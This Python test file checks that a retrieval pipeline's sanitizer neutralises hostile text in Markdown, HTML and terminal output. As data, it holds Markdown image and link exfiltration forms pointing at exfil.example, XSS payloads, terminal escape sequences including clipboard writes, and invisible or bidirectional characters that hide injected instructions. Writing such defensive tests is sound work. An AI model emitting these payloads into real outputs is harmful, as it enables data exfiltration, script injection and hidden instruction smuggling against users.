"""Nothing that anyone wrote does anything on a terminal, in Markdown or in HTML."""

from __future__ import annotations

import re
import time
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.sanitize import clean_line, clean_text, escape_html, escape_markdown

ACTIVE_FORMS = [
    "![x](http://exfil.example/c?d=1)",
    "![x][r]\n\n[r]: http://exfil.example/c?d=1",
    "[details](http://exfil.example/c?d=1)",
    "[details][r]\n[r]: http://exfil.example/c?d=1",
    "[r]\n\n[r]:\nhttp://exfil.example 'title'",
    "[![x](http://exfil.example/a)](http://exfil.example/b)",
    '<img src="http://exfil.example/c?d=1">',
    "<http://exfil.example/c?d=1>",
    "<mail@exfil.example>",
    "Visit http://exfil.example/c?d=1 for the full text.",
    "http\\://exfil.example/",
    "HTTPS://EXFIL.EXAMPLE/?q=[1](2)",
    "www.exfil.example/path_with_underscores_",
    "write to someone@exfil.example today",
    "exfil.example and exfil.com/path",
    "`code`http://exfil.example`more`",
    "``http://exfil.example``` unbalanced `",
    "\\`http://exfil.example\\`",
    "[a](//exfil.example/1)",
    "[a](\\\\exfil.example\\1)",
    '<a href="http://exfil.example/c?d=1">source</a>',
    '<iframe srcdoc="<img src=http://exfil.example/c?d=1>"></iframe>',
    '<link rel=stylesheet href="http://exfil.example/c?d=1">',
    '<svg><image href="http://exfil.example/c?d=1"/></svg>',
    "[a](data:text/html;base64,PHNjcmlwdD4x)",
    "[a](javascript:fetch(`http://exfil.example/c?d=`))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](java\tscript:alert(1))",
    "![x](<http://exfil.example/c?d= 1>)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "<!--[if<img src=x onerror=alert(1)//]> -->",
    "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[x]]>",
    "<math><mtext></mtext><mglyph><svg><style></svg><img src=x onerror=alert(1)>",
    '&lt;A HREF="http&#58;//exfil.example/"&gt;XSS&lt;/A&gt;',
    "[x]: <javascript:alert(1)>\n\n[x]",
    "[^1]: http://exfil.example\n\n[^1]",
    "a | b\n--|--\n[x](y) | `http://exfil.example|x`",
    "> quoted\n\n    <b>indented</b>\n\t[a](b)",
    "# heading\nsetext\n===\n- item\n1. item\n2) item\n***\n~~~\nfence\n```\n<b>",
    "\\[a](http://exfil.example) \\\\[b](http://exfil.example) \\<b>",
    "[a\u200b](http://exf\u00adil.example)",
    "\r[a]\r: http://exfil.example\r\r[a]",
    "$x$ $$\\href{http://exfil.example}{x}$$",
    "ftp://exfil.example //exfil.example tel:123 mailto:a@exfil.example?x=1",
]

CONTROL_FORMS = [
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mhello",
    "\x1b]8;;http://exfil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred\x9d0;title\x9c",
    "\x1bPq#0;2;0;0;0\x1b\\ \x1b_Gf=100;AAAA\x1b\\",
    "\x1b\x1b[2J[31m",
    "\x1b]52;c;cHduZWQ=",
    "backspace\b\b\bforward\a\x0e\x0f\x7f",
    "Normal.\U000e0049\U000e0067\U000e006e More.",
    "I\u200bg\u200bn\u200dore",
    "Normal \u202e.DENWP yas\u202c text \u2066x\u2069 \u200e\u200f\u061c",
    "\u00adIg\u00adnore \u2060\ufeff\u180e\u3164\u115f",
    "over\rwrite",
    "lone \ud800 surrogate \udfff",
    "a\u0300" + "\u0301" * 200,
    "\ufff9anchor\ufffahidden\ufffb",
]

PARSER = MarkdownIt("default", {"html": True, "linkify": False})
"""CommonMark with tables and strikethrough, HTML passed through."""
try:
    import linkify_it  # noqa: F401

    PARSER = MarkdownIt("default", {"html": True, "linkify": True})
except ImportError:
    pass

ACTIVE = {"link_open", "image", "html_inline", "html_block"}
BARE_ADDRESS = re.compile(r"\w://|\bwww\.\w|\w@\w|\b(?:mailto|javascript|data|tel):\S", re.IGNORECASE)
"""What renderers make links of in finished text, after undoing backslashes and entities."""

hostile_text = st.text(
    st.one_of(st.sampled_from("[]()!<>`\\*_~#&|:/@.=-+ \n\t\r\x1b\u200b\u202e\x07;1aw"), st.characters()), max_size=60
)
hostile_mix = st.lists(st.one_of(st.sampled_from([*ACTIVE_FORMS, *CONTROL_FORMS]), hostile_text), max_size=4).map(
    "".join
)


def walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from walk(token.children or [])


def assert_inert(markdown: str) -> None:
    environment: dict[str, object] = {}
    tokens = list(walk(PARSER.parse(markdown, environment)))
    assert not [token for token in tokens if token.type in ACTIVE], markdown
    assert not environment.get("references"), markdown
    for token in tokens:
        if token.type == "text":
            assert not BARE_ADDRESS.search(token.content), (markdown, token.content)


def assert_seen_is_there(text: str) -> None:
    for character in text:
        assert character in "\n\t" or unicodedata.category(character) not in {"Cc", "Cs", "Zl", "Zp"}, repr(text)
        assert (
            character in "\u200c\u200d\n\t"
            or unicodedata.category(character) != "Cf"
            or character > "\U000f0000"
            or character in "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
            or "\U00013430" <= character <= "\U0001343f"
        ), repr(character)


def shown(markdown: str) -> str:
    """Return the text that a reader of rendered Markdown sees."""
    tokens = walk(PARSER.parse(markdown))
    return "".join(
        "\n" if token.type in {"softbreak", "paragraph_close"} else token.content
        for token in tokens
        if token.type in {"text", "code_inline", "softbreak", "paragraph_close"}
    )


@pytest.mark.parametrize("text", ACTIVE_FORMS)
def test_no_form_of_link_image_or_html_stays_active_in_markdown(text: str) -> None:
    assert_inert(escape_markdown(text))


def test_the_forms_are_live_without_escaping() -> None:
    live = [text for text in ACTIVE_FORMS if any(token.type in ACTIVE for token in walk(PARSER.parse(text)))]
    assert len(live) >= 26


@pytest.mark.parametrize("text", ACTIVE_FORMS)
def test_a_form_cut_anywhere_stays_inert(text: str) -> None:
    for cut in range(len(text) + 1):
        for gap in (" ", "\n", "\n\n", "\n- ", "\n1. "):
            assert_inert(escape_markdown(text[:cut]) + gap + escape_markdown(text[cut:]))


@settings(max_examples=400, deadline=None)
@given(hostile_mix)
def test_any_text_is_inert_in_markdown(text: str) -> None:
    assert_inert(escape_markdown(text))


@settings(max_examples=200, deadline=None)
@given(hostile_mix)
@example("1. one\n2) two\n- x\n+ y\n= z")
@example("C:\\path\\_file_ a*b*c 2 < 3 & 4 > 1")
def test_a_reader_of_the_markdown_sees_the_text(text: str) -> None:
    seen = "".join(shown(escape_markdown(text)).split())
    assert seen == "".join(clean_text(text).split())


def test_ordinary_prose_is_left_alone_in_markdown() -> None:
    prose = "The limit (5.2 MB, since v1.3) holds; see section 4.1 - or ask."
    assert escape_markdown(prose) == prose


def test_a_web_address_is_shown_as_code() -> None:
    assert escape_markdown("see http://a.example/x_y_ now") == "see `http://a.example/x_y_` now"


@pytest.mark.parametrize("text", CONTROL_FORMS)
def test_no_form_of_control_sequence_reaches_a_terminal(text: str) -> None:
    assert_seen_is_there(clean_text(text))
    assert_seen_is_there(escape_markdown(text))


@settings(max_examples=400, deadline=None)
@given(hostile_mix)
def test_what_is_cleaned_holds_nothing_unseen_and_is_not_changed_again(text: str) -> None:
    cleaned = clean_text(text)
    assert_seen_is_there(cleaned)
    assert clean_text(cleaned) == cleaned
    cleaned.encode("utf-8")


def test_escape_sequences_go_with_what_they_carry() -> None:
    assert clean_text("\x1b]0;title\x07a\x1b[31mb\x1b]8;;http://x\x1b\\c\x1b]8;;\x1b\\") == "abc"


def test_an_unfinished_escape_sequence_does_not_swallow_the_text_after_its_line() -> None:
    assert "kept" in clean_text("\x1b]0;title\nkept")


def test_line_breaks_of_every_kind_become_one_kind() -> None:
    assert clean_text("a\r\nb\rc\u2028d\x85e\vf") == "a\nb\nc\nd\ne\nf"


def test_joiners_stay_where_scripts_need_them() -> None:
    persian, hindi, family = "می\u200cخواهم", "क्\u200dष", "👩\u200d👧"
    assert clean_text(f"{persian} {hindi} {family} ❤\ufe0f") == f"{persian} {hindi} {family} ❤\ufe0f"
    assert clean_text("I\u200dg\u200cn") == "Ign"


@pytest.mark.parametrize(
    "text", ["naïve café", "Ångström", "日本語のテキスト", "עברית", "العربية", "a\tb\n\nc", "ﬁ ½ №"]
)
def test_honest_text_is_not_changed(text: str) -> None:
    assert clean_text(text) == text


def test_a_flood_of_combining_marks_is_cut() -> None:
    assert len(clean_text("a" + "\u0301" * 500)) <= 10


@given(hostile_mix)
def test_a_line_is_one_line(text: str) -> None:
    line = clean_line(text)
    assert line == " ".join(line.split())
    assert_seen_is_there(line)


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")


@settings(deadline=None)
@given(hostile_mix)
def test_html_holds_the_text_and_nothing_else(text: str) -> None:
    page = Page()
    page.feed(f'<p title="{escape_html(text)}">{escape_html(text)}</p>')
    page.close()
    assert page.tags == ["p"]
    assert page.attributes == [("title", clean_text(text))]
    assert page.text == clean_text(text)


@pytest.mark.parametrize(
    "seed",
    [
        "\x1b]",
        "\x1b[",
        "\x1bP",
        "\x90",
        "\x9d",
        "\x9b",
        "\x1b",
        "[",
        "<",
        "`",
        "a@",
        "://",
        "a.bc",
        "\u0301",
        "\u200d",
        " ",
    ],
    ids=ascii,
)
def test_cleaning_hostile_text_takes_linear_time(seed: str) -> None:
    started = time.perf_counter()
    escape_markdown(seed * 100_000 + "x")
    assert time.perf_counter() - started < 5  # quadratic would take a minute
